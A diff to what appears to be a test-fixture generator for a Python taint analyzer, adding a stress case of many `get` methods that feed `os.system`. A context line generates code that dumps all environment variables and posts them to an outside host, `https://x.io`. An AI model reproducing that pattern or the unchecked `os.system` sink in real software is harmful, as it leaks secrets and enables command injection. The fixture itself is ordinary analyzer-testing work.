@@ -41,4 +41,10 @@ def kinds(scale: float = 1.0) -> dict[str, bytes]:
             b"class K%d(K%d if %d else object):\n    def run(self):\n        self.data = dict(os.environ)\n"
             b"        return super().run() if %d else self.data\n" % (i, i - 1, i, i) for i in range(n(2_000)))
             + b"import requests\nrequests.post(\"https://x.io\", json=K%d().run())\n" % (n(2_000) - 1),
+        # 150 methods named `get` whose parameter reaches a sink, and thousands of `d.get(k)` calls read through a
+        # name the calls also fill: each method resolved every call's callee again, each read of `d` re-read every
+        # call before it (4 CPU-s on 50 KB before session 17)
+        "same-name-methods.py": b"import os\n" + b"".join(
+            b"class C%d:\n    def get(self, x):\n        os.system(x)\n" % i for i in range(n(150)))
+            + b"def main(d, k):\n" + b"".join(b"    print(d.get(k%d), d)\n" % (i % 7) for i in range(n(3_000))),
     }
